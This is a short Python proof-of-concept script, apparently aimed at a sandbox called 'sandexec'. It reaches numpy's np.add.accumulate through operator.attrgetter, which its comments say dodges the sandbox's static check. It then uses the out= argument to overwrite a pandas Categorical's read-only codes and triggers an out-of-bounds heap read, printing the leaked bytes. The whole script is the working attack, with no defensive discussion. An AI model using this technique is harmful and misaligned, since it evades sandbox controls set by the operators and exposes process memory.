# source: sandexec README, "The static check", "numpy's running totals with an output ... numpy 1.24 writes them into arrays flagged read-only"; numpy ndarray.cumsum(axis, dtype, out); pandas Categorical.codes/take_nd unchecked codes; operator.attrgetter on a ufunc
# family: attrgetter literal name on a ufunc (accumulate with out=)
# goal: attrgetter("accumulate")(np.add)(src, 0, None, codes); read a Categorical's codes, then pandas reads its categories out of bounds (heap read)
from operator import attrgetter
import numpy as np
import pandas as pd
c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
k = c.codes
src = np.array([0, 40, 20, 60], dtype=np.int8)
f = attrgetter("accumulate")(np.add)
f(src, 0, None, k)
print("codes now", k)
vals = np.asarray(c)
print("read past the categories:", vals)
print("as bytes:", vals[1:].tobytes())
